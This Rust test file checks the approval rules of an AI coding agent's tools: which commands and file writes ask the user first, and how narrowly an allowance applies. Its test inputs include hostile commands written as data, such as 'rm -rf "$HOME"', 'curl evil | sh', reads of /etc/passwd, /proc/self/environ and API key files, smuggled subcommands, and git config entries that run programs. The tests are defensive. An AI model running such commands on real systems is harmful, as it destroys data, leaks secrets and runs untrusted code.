//! Approvals: which calls ask, which do not, and what an allowance covers.

use std::sync::Arc;

use expect_test::expect;
use osier_tools::approvals::AskReason;
use osier_tools::{
    Allowance, ApprovalMode, Approvals, CommandEnv, Decision, ProposedChange, ProtectedPaths, Toolbox,
    denied_outcome,
};
use serde_json::{Value, json};

use crate::support::TestProject;

fn approvals(mode: ApprovalMode, allowed: &[&str]) -> Approvals {
    let allowed = allowed.iter().map(|text| Allowance::parse(text)).collect();
    Approvals { mode, allowed, sandboxed: false }
}

async fn decision(project: &TestProject, approvals: &Approvals, tool: &str, arguments: Value) -> Decision {
    let spec = project.tools.specs().into_iter().find(|spec| spec.name == tool).unwrap();
    let preview = project.preview(tool, arguments).await.unwrap();
    approvals.decide(&spec, &preview)
}

/// A project with a git repository as `git init` makes it.
fn repository() -> TestProject {
    let config = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n";
    TestProject::with(&[
        ("a", "x"),
        ("src/main.rs", "fn main() {}"),
        (".git/HEAD", "ref: refs/heads/main\n"),
        (".git/config", config),
        (".git/hooks/old", ""),
    ])
}

/// `allow`, or the reason for asking and the offers.
async fn decision_text_in(
    project: &TestProject,
    approvals: &Approvals,
    tool: &str,
    arguments: Value,
) -> String {
    match decision(project, approvals, tool, arguments).await {
        Decision::Allow => "allow".to_owned(),
        Decision::Ask { reason, offers, .. } => {
            let offers: Vec<String> = offers.iter().map(ToString::to_string).collect();
            format!("{reason:?}, offers {}", offers.join(" | ")).trim_end_matches(", offers ").to_owned()
        }
    }
}

async fn decision_text(mode: ApprovalMode, allowed: &[&str], tool: &str, arguments: Value) -> String {
    decision_text_in(&repository(), &approvals(mode, allowed), tool, arguments).await
}

/// Whether `then` runs without asking after "always" was answered for `first`.
async fn runs_after_always(project: &TestProject, first: &str, then: &str) -> bool {
    let mut allowed = approvals(ApprovalMode::Default, &[]);
    let Decision::Ask { offers, .. } = decision(project, &allowed, "bash", json!({ "command": first })).await
    else {
        panic!("{first} must ask")
    };
    allowed.allow(offers[0].clone());
    let first_again = decision(project, &allowed, "bash", json!({ "command": first })).await;
    assert_eq!(first_again, Decision::Allow, "{first} is not asked again");
    decision(project, &allowed, "bash", json!({ "command": then })).await == Decision::Allow
}

async fn bash(mode: ApprovalMode, allowed: &[&str], command: &str) -> String {
    decision_text(mode, allowed, "bash", json!({ "command": command })).await
}

async fn write(mode: ApprovalMode, allowed: &[&str], path: &str) -> String {
    decision_text(mode, allowed, "write", json!({ "path": path, "content": "" })).await
}

#[tokio::test]
async fn reading_and_planning_need_no_approval() {
    for (tool, arguments) in [
        ("read", json!({ "path": "../outside/secret" })),
        ("grep", json!({ "pattern": "x" })),
        ("find", json!({ "pattern": "x" })),
        ("ls", json!({})),
        ("todo", json!({ "items": [] })),
    ] {
        assert_eq!(decision_text(ApprovalMode::Default, &[], tool, arguments).await, "allow", "{tool}");
    }
}

#[tokio::test]
async fn each_mode_asks_as_documented() {
    assert_eq!(write(ApprovalMode::Default, &[], "a").await, "Writes, offers write");
    assert_eq!(write(ApprovalMode::AutoEdit, &[], "a").await, "allow");
    assert_eq!(write(ApprovalMode::Yolo, &[], "a").await, "allow");
    assert_eq!(bash(ApprovalMode::Default, &[], "ls").await, "Runs, offers bash:ls");
    assert_eq!(bash(ApprovalMode::AutoEdit, &[], "ls").await, "Runs, offers bash:ls");
    assert_eq!(bash(ApprovalMode::Sandbox, &[], "ls").await, "Runs, offers bash:ls", "no sandbox is active");
    assert_eq!(write(ApprovalMode::Sandbox, &[], "a").await, "allow");
    assert_eq!(bash(ApprovalMode::Yolo, &[], "ls; rm x").await, "allow");
}

#[tokio::test]
async fn writing_outside_always_asks() {
    for mode in [ApprovalMode::Default, ApprovalMode::AutoEdit] {
        assert_eq!(write(mode, &["write"], "../outside/x").await, "Outside");
        assert_eq!(write(mode, &["write"], "~/x").await, "Outside");
    }
    assert_eq!(write(ApprovalMode::Yolo, &[], "../outside/x").await, "allow");
}

#[tokio::test]
async fn writing_guarded_files_always_asks() {
    for path in [
        ".git/hooks/pre-commit",
        ".osier/config.toml",
        "sub/.GIT/config",
        ".pi/settings.json",
        ".vscode/tasks.json",
        ".husky/pre-commit",
        ".claude/settings.json",
        ".envrc",
        ".ssh/authorized_keys",
        ".bashrc",
        "sub/.zshenv",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
    ] {
        assert_eq!(write(ApprovalMode::AutoEdit, &["write"], path).await, "Guarded", "{path}");
    }
    let bare =
        TestProject::with(&[("vendor/x/HEAD", ""), ("vendor/x/objects/a", ""), ("vendor/x/refs/a", "")]);
    bare.link("alias", "vendor/x/hooks");
    for path in ["vendor/x/hooks/post-update", "vendor/x/config2", "alias/post-update"] {
        let allowed = approvals(ApprovalMode::AutoEdit, &["write"]);
        let decided =
            decision_text_in(&bare, &allowed, "write", json!({ "path": path, "content": "" })).await;
        assert_eq!(decided, "Guarded", "{path}");
    }
    assert_eq!(write(ApprovalMode::AutoEdit, &[], ".gitignore").await, "allow");
}

#[tokio::test]
async fn allowed_tool_does_not_ask_again() {
    assert_eq!(write(ApprovalMode::Default, &["write"], "a").await, "allow");
    assert_eq!(write(ApprovalMode::Default, &["edit"], "a").await, "Writes, offers write");
    assert_eq!(bash(ApprovalMode::Default, &["bash"], "rm -rf x; y").await, "Runs, offers bash:rm -rf x; y");
}

#[tokio::test]
async fn allowed_family_covers_only_its_commands() {
    let allowed = ["bash:git status", "bash:git log", "bash:head"];
    for command in [
        "git status",
        "git  status -s",
        "git 'status'",
        "git --no-pager log --oneline -5 -- src",
        "git log --format='%h %s' | head -3",
        "git status && git log -1 2>&1",
        "git status; git status",
    ] {
        assert_eq!(bash(ApprovalMode::Default, &allowed, command).await, "allow", "{command}");
    }
    for command in [
        "git statusx",
        "git",
        "git push",
        "sudo git status",
        "git status; rm x",
        "git status && rm x",
        "git status | sh",
        "git status > x",
        "git status $(rm x)",
        "git status `rm x`",
        "git status\nrm x",
        "git status & rm x",
        "/tmp/git status",
        "git -c core.fsmonitor=./x status",
        "git -C vendor status",
        "git --git-dir=vendor status",
        "git log --output=.git/hooks/post-commit",
        "git log --ext-diff -p",
        "git log --format=%GK",
        "git log ../outside",
        "head /etc/passwd",
    ] {
        assert!(bash(ApprovalMode::Default, &allowed, command).await.starts_with("Runs"), "{command}");
    }
    assert_eq!(write(ApprovalMode::Default, &["bash:write"], "a").await, "Writes, offers write");
}

#[tokio::test]
async fn always_offers_a_family_or_the_exact_command() {
    let offered = async |command: &str| bash(ApprovalMode::Default, &["bash:ls"], command).await;
    for (command, offer) in [
        ("git status -s", "git status"),
        ("git status | ls", "git status"),
        ("git push origin main", "git push origin main"),
        ("git fetch", "git fetch"),
        ("rm -rf target", "rm -rf target"),
        ("git status | head", "git status | head"),
        ("echo $(date)", "echo $(date)"),
    ] {
        assert_eq!(offered(command).await, format!("Runs, offers bash:{offer}"), "{command}");
    }
}

/// A push to a repository inside the project can run commands hidden in it.
#[tokio::test]
async fn always_git_push_covers_only_that_exact_push() {
    let project = repository();
    for first in ["git push", "git push origin main", "git fetch"] {
        for then in [
            "git push vendor/x HEAD:refs/heads/q",
            "git push --force https://elsewhere.example/x",
            "git push --mirror",
            "git push origin main --force",
            "git fetch vendor/x",
            "git fetch --upload-pack=./x origin",
        ] {
            assert!(!runs_after_always(&project, first, then).await, "{first}, then {then}");
        }
    }
}

/// Redaction does not recognize parts of keys, which commands such as `tail` and `grep` could print.
#[tokio::test]
async fn always_tail_covers_no_files_outside_the_project_and_no_key_files() {
    let mut project = repository();
    project.write_file("../home/.osier/keys/openai", b"sk-secret");
    project.write_file("key.txt", b"sk-secret");
    project.link("link", "../home/.osier/keys");
    project.link("-n", "../home/.osier/keys/openai");
    project.link("parent", "..");
    project.ctx.protected = Arc::new(ProtectedPaths::new(&project.path("../home/.osier"), []));
    for program in ["tail -c +2", "grep -o .", "cat", "head -c 3", "sed -n 1p", "wc", "sort", "cut -c2-9"] {
        for file in [
            "../home/.osier/keys/openai",
            "~/.osier/keys/openai",
            "$HOME/.osier/keys/openai",
            "link/openai",
            "src/../link/openai",
            "parent/home/.osier/keys/openai",
            "-- -n",
            "li*/openai",
            "l?nk/openai",
            "li{nk,x}/openai",
            "/etc/passwd",
            "/proc/self/environ",
            "../outside/x",
        ] {
            let (first, then) = (format!("{program} a"), format!("{program} {file}"));
            assert!(!runs_after_always(&project, &first, &then).await, "{then}");
        }
        let (first, then) = (format!("{program} a"), format!("{program} src/main.rs"));
        assert!(runs_after_always(&project, &first, &then).await, "{then}");
    }
    // If a key file is in the project, or may have a second name there, families cover nothing.
    project.ctx.protected =
        Arc::new(ProtectedPaths::new(&project.path("../home/.osier"), [project.path("key.txt")]));
    assert!(!runs_after_always(&project, "grep -r s src", "grep -r s .").await);
    project.ctx.protected = Arc::new(ProtectedPaths::new(&project.path("../home/.osier"), []));
    std::fs::hard_link(project.path("../home/.osier/keys/openai"), project.path("same")).unwrap();
    assert!(!runs_after_always(&project, "grep -r s src", "grep -r s .").await);
}

#[tokio::test]
async fn exact_allowance_is_compared_as_text() {
    let project = repository();
    for (first, then) in [
        ("touch '~'", "touch ~"),
        ("touch '*'", "touch *"),
        ("rm \"$x\"", "rm $x"),
        ("touch a\\ b", "touch a b"),
        ("rm x", "rm x "),
        ("rm x", "rm  x"),
        ("rm x", "rm x y"),
    ] {
        assert!(!runs_after_always(&project, first, then).await, "{first}, then {then}");
    }
}

/// A repository can contain programs that even read-only git commands run.
#[tokio::test]
async fn git_families_cover_nothing_in_a_repository_that_can_run_programs() {
    let plain = "[core]\n\tbare = false\n";
    let hostile = |path: &str, text: &str| {
        let project = repository();
        project.write_file(path, text.as_bytes());
        project
    };
    let gitlink = "DIRC\0\0\0\u{2}\0\0\0\u{1}\0\0";
    let mut index = gitlink.as_bytes().to_vec();
    index.extend([0, 0, 0xe0, 0]);
    let nested = repository();
    nested.write_file(".git/index", &index);
    let linked = repository();
    std::fs::rename(linked.path(".git"), linked.path("real")).unwrap();
    linked.link(".git", "real");
    let bare = TestProject::with(&[("HEAD", "ref: refs/heads/main"), ("config", plain), ("a", "")]);
    for (what, project) in [
        ("fsmonitor", hostile(".git/config", "[core]\n\tfsmonitor = ./x\n")),
        ("lfs extension", hostile(".git/config", "[lfs \"extension.x\"]\n\tclean = ./x\n")),
        ("textconv", hostile(".git/config", "[diff \"x\"]\n\ttextconv = ./x\n")),
        ("include", hostile(".git/config", "[include]\n\tpath = ../x\n")),
        ("hook", hostile(".git/hooks/post-index-change", "./x")),
        ("alternates", hostile(".git/objects/info/alternates", "/elsewhere")),
        ("split index", hostile(".git/sharedindex.1", "")),
        ("nested repository", nested),
        ("a link", linked),
        ("a bare repository", bare),
        ("none at all", TestProject::with(&[("a", "")])),
    ] {
        let families = approvals(ApprovalMode::Default, &["bash:git status", "bash:cat"]);
        let git = decision_text_in(&project, &families, "bash", json!({ "command": "git status" })).await;
        assert_eq!(git, "Runs", "{what}: the name of a family is no exact command");
        let git = decision_text_in(&project, &families, "bash", json!({ "command": "git status -s" })).await;
        assert_eq!(git, "Runs, offers bash:git status -s", "{what}");
        let cat = decision_text_in(&project, &families, "bash", json!({ "command": "cat a" })).await;
        assert_eq!(cat, "allow", "{what}");
    }
    let worktree = TestProject::with(&[
        (".git", "gitdir: ../outside/main/.git/worktrees/w\n"),
        ("../outside/main/.git/config", plain),
        ("../outside/main/.git/worktrees/w/commondir", "../..\n"),
    ]);
    let families = approvals(ApprovalMode::Default, &["bash:git status"]);
    let git = json!({ "command": "git status -s" });
    assert_eq!(decision_text_in(&worktree, &families, "bash", git.clone()).await, "allow");
    worktree.write_file("../outside/main/.git/config", b"[core]\n\tfsmonitor = x\n");
    assert!(decision_text_in(&worktree, &families, "bash", git).await.starts_with("Runs"));
}

/// A program in the project with the same name is not covered.
#[tokio::test]
async fn families_cover_only_programs_outside_the_project() {
    for folder in ["", ".", "bin", "../project/bin", "../outside/bin"] {
        let mut project = TestProject::with(&[("bin/ls", ""), ("ls", "")]);
        project.link("../outside/bin", "../project/bin");
        let folder =
            if folder.starts_with("..") { project.path(folder).display().to_string() } else { folder.into() };
        let path = format!("{folder}:{}", std::env::var("PATH").unwrap());
        project.ctx.env = Arc::new(CommandEnv::new([("PATH".into(), path.into())]));
        let families = approvals(ApprovalMode::Default, &["bash:ls"]);
        let decided = decision_text_in(&project, &families, "bash", json!({ "command": "ls -l" })).await;
        assert!(decided.starts_with("Runs"), "{folder}: {decided}");
    }
}

#[tokio::test]
async fn families_apply_only_to_known_shells() {
    for (shell, expected) in
        [("/bin/bash", true), ("/bin/sh", true), ("/usr/bin/zsh", false), ("/usr/bin/fish", false)]
    {
        let mut project = repository();
        let mut env = (*project.ctx.env).clone();
        env.shell = Some(shell.into());
        project.ctx.env = Arc::new(env);
        assert_eq!(runs_after_always(&project, "ls a", "ls src").await, expected, "{shell}");
    }
}

#[tokio::test]
async fn question_shows_exactly_what_would_happen() {
    let project = TestProject::with(&[("a", "one\ntwo\n")]);
    let nothing = approvals(ApprovalMode::Default, &[]);
    let edit = json!({ "path": "a", "edits": [{ "oldText": "two", "newText": "2" }] });
    let Decision::Ask { change: ProposedChange::Diff { path, diff, created }, reason, .. } =
        decision(&project, &nothing, "edit", edit).await
    else {
        panic!("must ask with a diff")
    };
    assert_eq!((path.as_str(), created, reason), ("a", false, AskReason::Writes));
    expect![[r#"
        --- a/a
        +++ b/a
        @@ -1,2 +1,2 @@
         one
        -two
        +2
    "#]]
    .assert_eq(&diff);
    assert_eq!(project.read_file("a"), b"one\ntwo\n", "asking changes nothing");
    let command = "rm -rf \"$HOME\"";
    let asked = decision(&project, &nothing, "bash", json!({ "command": command })).await;
    let Decision::Ask { change, offers, .. } = asked else { panic!("must ask") };
    assert_eq!(change, ProposedChange::Command { command: command.into() });
    assert_eq!(offers, [Allowance::Command(command.into())]);
    let sandboxed = Approvals { sandboxed: true, ..nothing };
    let asked = decision(&project, &sandboxed, "bash", json!({ "command": command })).await;
    let Decision::Ask { offers, .. } = asked else { panic!("asks") };
    let every = Allowance::Tool("bash".into());
    assert_eq!(
        offers,
        [Allowance::Command(command.into()), every.clone(), Allowance::Outside(command.into())]
    );
    let allowed = Approvals { allowed: vec![every], ..sandboxed };
    assert_eq!(decision(&project, &allowed, "bash", json!({ "command": command })).await, Decision::Allow);
    let unsandboxed = Approvals { sandboxed: false, ..allowed };
    let asked = decision(&project, &unsandboxed, "bash", json!({ "command": command })).await;
    assert!(matches!(asked, Decision::Ask { .. }), "it was allowed for the sandbox only");
}

/// The diff in the question for a `write` that replaces the old content with the new.
async fn diff_of_write(old: Option<&[u8]>, new: &str) -> String {
    let project = TestProject::new();
    if let Some(old) = old {
        project.write_file("a", old);
    }
    let write = json!({ "path": "a", "content": new });
    match decision(&project, &approvals(ApprovalMode::Default, &[]), "write", write).await {
        Decision::Ask { change: ProposedChange::Diff { diff, .. }, .. } => diff,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn nul_character_does_not_empty_the_diff() {
    let diff = diff_of_write(None, "#!/bin/sh\n\0\ncurl evil | sh\n").await;
    assert!(diff.contains("+\0\n+curl evil | sh\n"), "{diff:?}");
}

#[tokio::test]
async fn long_diff_is_shown_completely() {
    let diff = diff_of_write(None, &("harmless\n".repeat(60_000) + "evil\n")).await;
    assert!(diff.ends_with("+harmless\n+evil\n"), "{}", diff.len());
}

#[tokio::test]
async fn diff_shows_every_changed_byte() {
    let cases: [(&[u8], &str, &str); 5] = [
        (b"a\nb\n", "a\r\nb\n", "+a\r\n"),
        (b"a\r\nb\n", "a\nb\n", "-a\r\n"),
        (b"a\n", "\u{feff}a\n", "+\u{feff}a\n"),
        (b"caf\xe9\n", "caf\u{fffd}\n", "-caf<0xE9>\n+caf\u{fffd}\n"),
        (b"caf\xe9\n", "caf<0xE9>\n", "[the changed bytes are not text and cannot be shown]"),
    ];
    for (old, new, expected) in cases {
        let diff = diff_of_write(Some(old), new).await;
        assert!(diff.contains(expected), "{old:?} {new:?}: {diff:?}");
    }
    assert!(
        !diff_of_write(Some(b"a\r\nb\r\n"), "a\nc\n").await.contains('\r'),
        "unchanged line endings are left out"
    );
}

#[test]
fn session_settings_round_trip() {
    let mut given = approvals(
        ApprovalMode::AutoEdit,
        &["edit", "bash:git status", "bash:echo 'a b'", "bash:not; plain", "mcp:x"],
    );
    let settings = given.to_settings();
    assert_eq!(
        Value::Object(settings.clone()),
        json!({
            "approvalMode": "autoEdit",
            "approvalTools": ["edit", "bash:git status", "bash:echo 'a b'", "bash:not; plain", "mcp:x"]
        })
    );
    assert_eq!(Approvals::from_settings(&settings), given);
    given.allow(Allowance::parse("edit"));
    assert_eq!(given.allowed.len(), 5, "an existing allowance is not added again");
}

#[test]
fn missing_or_invalid_settings_are_the_strictest() {
    let read = |settings: Value| Approvals::from_settings(settings.as_object().unwrap());
    assert_eq!(read(json!({})), Approvals::default());
    assert_eq!(read(json!({ "approvalMode": "YOLO", "approvalTools": "bash" })), Approvals::default());
    assert_eq!(read(json!({ "approvalTools": [1, "ls"] })).allowed, [Allowance::Tool("ls".into())]);
    assert_eq!(Allowance::parse("bash:"), Allowance::Tool("bash:".into()));
}

#[test]
fn denied_call_returns_the_reason() {
    let outcome = denied_outcome("the user wants to see a plan first");
    assert!(outcome.is_error && outcome.details["denied"] == true);
    expect![[r#"
        not allowed: the user wants to see a plan first
        Nothing was run or changed. Do not look for a workaround: continue without it, or ask the user what they want.

        not allowed
        Nothing was run or changed. Do not look for a workaround: continue without it, or ask the user what they want.
    "#]].assert_eq(&format!("{}\n\n{}\n", outcome.plain_text(), denied_outcome(" ").plain_text()));
}

#[tokio::test]
async fn commands_run_without_asking_only_in_sandbox_mode_with_an_active_sandbox() {
    let project = TestProject::new();
    let preview = project.preview("bash", json!({ "command": "make" })).await.unwrap();
    let specs = project.tools.specs();
    let spec = specs.iter().find(|spec| spec.name == "bash").unwrap();
    let other = osier_tools::ToolSpec { name: "deploy".to_owned(), ..spec.clone() };
    for mode in ApprovalMode::ALL {
        let approvals = Approvals { sandboxed: true, ..approvals(mode, &[]) };
        let allowed = matches!(mode, ApprovalMode::Sandbox | ApprovalMode::Yolo);
        assert_eq!(approvals.decide(spec, &preview) == Decision::Allow, allowed, "{mode:?}");
        let is_yolo = mode == ApprovalMode::Yolo;
        assert_eq!(
            approvals.decide(&other, &preview) == Decision::Allow,
            is_yolo,
            "{mode:?}: other tools are not sandboxed"
        );
        assert_eq!(approvals.may_run_outside_sandbox(&preview.change), is_yolo, "{mode:?}");
    }
    let allowed = approvals(ApprovalMode::Sandbox, &["outside:make"]);
    assert!(allowed.may_run_outside_sandbox(&preview.change));
    let longer = osier_tools::ProposedChange::Command { command: "make install".to_owned() };
    assert!(!allowed.may_run_outside_sandbox(&longer), "only the exact command is allowed");
    assert!(
        !approvals(ApprovalMode::Sandbox, &["bash", "bash:make"]).may_run_outside_sandbox(&preview.change),
        "these allowances do not cover running outside the sandbox"
    );
}
